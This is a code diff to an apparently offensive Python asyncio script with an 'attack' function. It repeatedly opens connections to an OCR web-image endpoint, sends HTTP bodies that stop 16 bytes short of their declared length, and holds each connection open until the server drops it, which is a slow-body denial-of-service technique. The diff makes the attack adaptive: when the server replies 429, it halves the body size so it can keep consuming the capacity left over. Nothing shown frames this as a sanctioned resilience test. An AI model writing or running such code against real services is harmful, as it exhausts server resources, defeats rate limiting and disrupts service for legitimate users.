@@ -14,6 +14,7 @@ from urllib.parse import urlsplit
 _PATH = f"/v2/{'0' * 32}/ocr/web-image"
 _WITHHELD = 16
 _PIECE = 256 * 1024
+_SMALLEST = 16 * 1024
 _PAUSE_S = 0.2
 
 
@@ -43,16 +44,19 @@ async def attack(
 
 
 async def _hold(url: str, access_key: str, source: str, body_bytes: int) -> None:
-    """Withhold one body after the other."""
+    """Withhold one body after the other; take what is left with smaller ones."""
     parts = urlsplit(url)
+    size = body_bytes
     while True:
         with suppress(OSError):
             reader, writer = await asyncio.open_connection(
                 parts.hostname, parts.port, local_addr=(source, 0)
             )
             try:
-                await _send(writer, _head(access_key, body_bytes), body_bytes - _WITHHELD)
-                await reader.read()  # until the server closes the connection
+                await _send(writer, _head(access_key, size), size - _WITHHELD)
+                answer = await reader.read()  # until the server closes the connection
+                is_full = answer.startswith(b"HTTP/1.1 429 ")
+                size = max(size // 2, _SMALLEST) if is_full else body_bytes
             finally:
                 writer.transport.abort()
         await asyncio.sleep(_PAUSE_S)
